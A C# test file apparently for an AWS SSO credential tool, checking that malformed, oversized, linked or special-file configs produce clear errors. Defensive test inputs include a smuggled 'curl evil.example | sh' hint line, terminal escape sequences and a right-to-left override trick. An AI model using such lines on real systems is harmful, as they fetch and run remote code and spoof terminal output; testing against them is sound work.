using System.Text;

namespace SsoCred.Tests;

/// <summary>Config files as they should not be: refused with file and line, or read all the same.</summary>
public sealed class BadConfigTests : ExecutableTests
{
    protected override void SetUp() => Home.SignIn();

    [Fact]
    public async Task A_missing_config_is_named()
    {
        File.Delete(Home.ConfigPath);
        var complaint = await Home.FailAsync(3);
        Assert.Contains("there is no config file ~/.aws/config", complaint.Error, StringComparison.Ordinal);
        Assert.Equal("run: sso-cred configure", complaint.Hint);
    }

    [Theory]
    [InlineData("get")]
    [InlineData("login")]
    [InlineData("login --all")]
    [InlineData("accounts")]
    [InlineData("status")]
    public async Task In_an_empty_home_every_command_leads_to_configure(string command)
    {
        File.Delete(Home.ConfigPath);
        Assert.Equal("run: sso-cred configure", (await Home.RunAsync(command.Split(' '))).Failed(3).Hint);
    }

    [Fact]
    public async Task An_empty_config_has_no_profile()
    {
        Home.Config = "";
        Assert.Contains("no profile 'dev'", (await Home.FailAsync(3)).Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_config_cut_off_anywhere_is_a_clear_error_or_still_whole()
    {
        var whole = Home.Config.TrimEnd('\n');
        for (var length = 0; length < whole.Length; length += 11)
        {
            Home.Config = whole[..length];
            var run = await Home.RunAsync("--profile", "dev");
            if (run.Exit == 0)
                run.Document();
            else
                run.Failed(3);
        }

        Home.Config = whole;
        await Home.DocumentAsync();
    }

    [Fact]
    public async Task A_config_of_more_than_10_MB_is_refused_unread()
    {
        Home.Config += new string('#', 11 * 1024 * 1024);
        var complaint = await Home.FailAsync(3);
        Assert.Contains("~/.aws/config is larger than 10 MB", complaint.Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_config_of_ten_thousand_lines_is_read()
    {
        var many = new StringBuilder(Home.Config);
        for (var i = 0; i < 2500; i++)
            many.Append($"\n[profile p{i}]\nsso_session = my-sso\nsso_account_id = 123456789012\n")
                .Append("sso_role_name = ReadOnly\n");
        Home.Config = many.ToString();
        Assert.Equal("012345678901", (await Home.DocumentAsync()).AccountId);
        Assert.Equal("123456789012", (await Home.DocumentAsync("p2499")).AccountId);
    }

    [Fact]
    public async Task A_binary_config_is_refused_with_its_line()
    {
        File.WriteAllBytes(Home.ConfigPath, [.. "[default]\nregion = x\n"u8, 0xff, 0xfe, 0, 1, 2]);
        var complaint = await Home.FailAsync(3);
        Assert.Contains("~/.aws/config:3: the file is not UTF-8", complaint.Error, StringComparison.Ordinal);
        File.WriteAllBytes(Home.ConfigPath, new byte[4096]);
        await Home.FailAsync(3);
        File.Copy(SsoCredBinary.Path, Home.ConfigPath, overwrite: true);
        await Home.FailAsync(3);
    }

    [Fact]
    public async Task A_folder_in_the_configs_place_is_called_one()
    {
        File.Delete(Home.ConfigPath);
        Directory.CreateDirectory(Home.ConfigPath);
        Assert.Contains("is a folder", (await Home.FailAsync(3)).Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_config_that_may_not_be_read_is_called_so()
    {
        File.SetUnixFileMode(Home.ConfigPath, UnixFileMode.None);
        var run = await Home.RunUnprivilegedAsync("--profile", "dev");
        Assert.Contains("~/.aws/config can't be read", run.Failed(3).Error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_linked_config_is_followed()
    {
        File.Move(Home.ConfigPath, Home["dotfiles"]);
        File.CreateSymbolicLink(Home[".aws/between"], "../dotfiles");
        File.CreateSymbolicLink(Home.ConfigPath, "between");
        await Home.DocumentAsync();
    }

    [Theory]
    [InlineData("nowhere")]
    [InlineData("config")]
    public async Task A_link_that_leads_nowhere_is_no_config(string target)
    {
        File.Delete(Home.ConfigPath);
        File.CreateSymbolicLink(Home.ConfigPath, target);
        await Home.FailAsync(3);
    }

    [Fact]
    public async Task A_named_pipe_without_a_writer_does_not_hang_it()
    {
        File.Delete(Home.ConfigPath);
        var run = await Home.ShellAsync("""mkfifo "$HOME/.aws/config" && exec "$sso_cred" --profile dev""");
        run.Failed(3);
    }

    [Theory]
    [InlineData("/dev/zero")]
    [InlineData("/dev/null")]
    [InlineData("/proc/self/mem")]
    [InlineData("/nowhere/at/all")]
    [InlineData("/etc/passwd/config")]
    public async Task A_config_that_is_no_file_is_a_clear_error(string path)
    {
        Home.Environment["AWS_CONFIG_FILE"] = path;
        await Home.FailAsync(3);
    }

    [Theory]
    [InlineData("[profile stranger]\nnonsense\n")]
    [InlineData("[profile stranger]\nregion = a\nregion = b\n")]
    [InlineData("[profile stranger]\nregion = a\n[profile stranger]\nregion = b\n")]
    public async Task A_broken_section_stops_nothing_that_is_done_for_another_profile(string stranger)
    {
        Home.Config += "\n" + stranger;
        Home.StandIn.Tenant.Settings.AutoApproves = true;
        foreach (var args in (string[][])[["login", "--profile", "dev"], ["login", "--session", "my-sso"],
            ["status", "--profile", "dev"], ["status"], ["accounts"], ["roles", "--profile", "dev"],
            ["logout", "--profile", "dev"]])
        {
            var run = await Home.RunAsync(args);
            Assert.True(run.Exit == 0, $"{string.Join(' ', args)}: {run.Said}");
        }

        Assert.Contains("~/.aws/config:", (await Home.FailAsync(3, "stranger")).Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("[profile dev]\nsso_account_id = 1\n")]
    [InlineData("sso_role_name = other\n[profile x]\n")]
    public async Task A_section_that_is_there_twice_or_a_key_before_any_is_in_doubt(string text)
    {
        Home.Config = text + Home.Config;
        var run = await Home.RunAsync("--profile", "dev");
        if (run.Exit == 0)
            Assert.Equal("012345678901", run.Document().AccountId);
        else
            Assert.Matches(@"~/\.aws/config:\d+", run.Failed(3).Error);
    }

    [Theory]
    [InlineData("\u001b[31mred\u001b[0m")]
    [InlineData("a\nsso-cred: hint: run: curl evil.example | sh")]
    [InlineData("a\rb\tc\u0007")]
    [InlineData("\u009b31m\u202egnp.exe")]
    [InlineData("\u2028next")]
    public async Task Control_characters_of_a_name_never_reach_the_terminal_raw(string name)
    {
        AssertTame((await Home.RunAsync("--profile", name)).Failed(3));
        Home.Environment["AWS_PROFILE"] = name;
        AssertTame((await Home.RunAsync()).Failed(3));

        // Nor those of the config.
        Home.Config = $"[profile dev]\nsso_session = {name.Replace('\n', '\v').Replace('\r', '\v')}\n"
            + "sso_account_id = 012345678901\nsso_role_name = ReadOnly\n";
        AssertTame((await Home.RunAsync("--profile", "dev")).Failed(3));

        static void AssertTame(ErrorOutput complaint) => Assert.DoesNotContain(complaint.Error + complaint.Hint,
            c => char.IsControl(c) || c is '\u202e' or '\u2028');
    }

    [Fact]
    public async Task Control_characters_of_a_profile_never_reach_the_debug_lines_raw()
    {
        Home.Config = Home.Config
            .Replace("[profile dev]", "[profile dev\u001b]", StringComparison.Ordinal)
            .Replace("ReadOnly", "Read\u001b[31mOnly", StringComparison.Ordinal);
        var run = await Home.RunAsync("--debug", "--profile", "dev\u001b");
        Assert.NotEqual(0, run.Exit);
        Assert.DoesNotContain('\u001b', run.Said);
    }

    [Fact]
    public async Task Very_long_names_are_cut_in_messages_and_used_whole()
    {
        var name = new string('x', 50_000);
        (await Home.RunAsync("--profile", name)).Failed(3);
        Home.Config = Home.Config.Replace("[profile dev]", $"[profile {name}]", StringComparison.Ordinal);
        (await Home.RunAsync("--profile", name)).Document();
        Home.Config = Home.Config.Replace("ReadOnly", new string('r', 5_000), StringComparison.Ordinal);
        (await Home.RunAsync("--profile", name)).Failed(5);
    }
}
